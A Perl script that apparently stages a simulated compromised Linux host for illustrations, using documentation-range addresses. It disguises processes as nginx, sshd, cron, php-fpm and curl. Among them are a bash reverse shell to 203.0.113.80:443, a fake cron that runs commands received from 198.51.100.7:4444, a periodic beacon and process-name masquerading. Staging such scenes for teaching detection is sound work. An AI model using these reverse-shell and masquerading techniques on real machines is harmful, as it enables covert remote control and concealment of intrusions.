#!/usr/bin/perl
# The machine of the pictures: servers, clients, and two shells that call out. assets/pictures.sh runs it twice: as
# "peer" for what is at the other end of the cable, and as "host" for the machine that is looked at.
#
# Perl, because it is on every Debian and can give its processes other names and arguments.
use strict;
use warnings;
use IO::Socket::INET;
use IO::Socket::UNIX;
use POSIX qw(setsid _exit dup2);

$SIG{CHLD} = 'IGNORE';
my $role = shift // '';
my @held;

sub tcp_server {
    my ($address, $port) = @_;
    IO::Socket::INET->new(
        LocalAddr => $address, LocalPort => $port, Listen => 32, ReuseAddr => 1, Proto => 'tcp'
    ) or die "listen $address:$port: $!";
}

# Tries for a while: the other side may not be there yet.
sub client {
    my ($from, $address, $port) = @_;
    for (1 .. 100) {
        my $socket = IO::Socket::INET->new(
            LocalAddr => $from, PeerAddr => $address, PeerPort => $port, Proto => 'tcp', Timeout => 1
        );
        return $socket if $socket;
        select undef, undef, undef, 0.05;
    }
    die "connect $address:$port: $!";
}

sub call {
    my ($name, $arguments) = @_;
    $0 = $arguments;
    open my $comm, '>', '/proc/self/comm' or die "comm: $!";
    print $comm $name;
    close $comm;
}

sub become {
    my $uid = shift;
    $( = $) = $uid;
    $< = $> = $uid;
}

# A child with a name and arguments of its own, which goes on as said.
sub process {
    my ($name, $arguments, $work, $uid) = @_;
    my $pid = fork // die "fork: $!";
    return $pid if $pid;
    setsid();
    call($name, $arguments);
    become($uid) if $uid;
    $work->();
    sleep while 1;
}

sub peer {
    my %servers = map { fileno($_) => $_ } (
        tcp_server('203.0.113.80', 443), tcp_server('198.51.100.7', 4444), tcp_server('192.0.2.200', 443)
    );
    for my $port (443, 443, 22) {
        process("client", "client", sub { push @held, client($port == 22 ? '192.0.2.9' : '192.0.2.77', '10.0.0.5', $port) });
    }
    my %since;
    while (1) {
        my $ready = '';
        vec($ready, $_, 1) = 1 for keys %servers;
        select $ready, undef, undef, 0.2;
        for (grep { vec($ready, $_, 1) } keys %servers) {
            my $connection = $servers{$_}->accept or next;
            if ($connection->sockhost eq '192.0.2.200') { $since{$connection} = [time, $connection] }
            else { push @held, $connection }
        }
        # Closed at this end, so that no TIME_WAIT is left at the other.
        delete $since{$_} for grep { time - $since{$_}[0] >= 3 } keys %since;
    }
}

# In place of this process bash, whose descriptors 0, 1 and 2 are a connection.
sub shell {
    my $connection = client(undef, '203.0.113.80', 443);
    dup2(fileno($connection), $_) for 0 .. 2;
    chdir '/srv/www/uploads' or die "chdir: $!";
    exec '/bin/bash', '--norc', '-i';
}

sub host {
    call('systemd', '/sbin/init');
    mkdir $_ for '/srv/www', '/srv/www/uploads';
    my $web = tcp_server('0.0.0.0', 443);
    process('nginx', 'nginx: master process /usr/sbin/nginx', sub {
        process('nginx', 'nginx: worker process', sub { push @held, scalar $web->accept while @held < 2 }, 33);
    });
    close $web;
    process('sshd', 'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups', sub {
        my $server = tcp_server('0.0.0.0', 22);
        my $session = $server->accept;
        process('sshd', 'sshd: alice [priv]', sub { close $server });
        close $session;
    });
    process('chronyd', '/usr/sbin/chronyd -F 2', sub {
        push @held, IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => 323, Proto => 'udp');
    });
    process('dbus-daemon', '/usr/bin/dbus-daemon --system', sub {
        push @held, IO::Socket::UNIX->new(Local => '/run/bus', Listen => 5);
    }, 1);
    process('php-fpm8.2', 'php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)', sub {
        push @held, tcp_server('127.0.0.1', 9000);
        process('php-fpm8.2', 'php-fpm: pool www', sub {
            process('bash', 'bash', \&shell, 33);
            become(33);
        });
    });
    process('cron', '/usr/sbin/cron -f', sub {
        my $connection = client(undef, '198.51.100.7', 4444);
        dup2(fileno($connection), 9);
        close $connection;
        exec '/bin/bash', '-c', 'while read -u 9 line; do $line; done' unless fork;
        POSIX::close(9);
    });
    process('curl', 'curl -sS https://mirror.example/packages.xz', sub {
        while (1) {
            push @held, client(undef, '192.0.2.200', 443);
            select undef, undef, undef, 2.2;
            my @open = grep { my $ready = ''; vec($ready, fileno($_), 1) = 1; !select $ready, undef, undef, 0 } @held;
            @held = @open;
        }
    }, 34);
    sleep while 1;
}

$role eq 'peer' ? peer() : $role eq 'host' ? host() : die "usage: scene.pl peer|host\n";
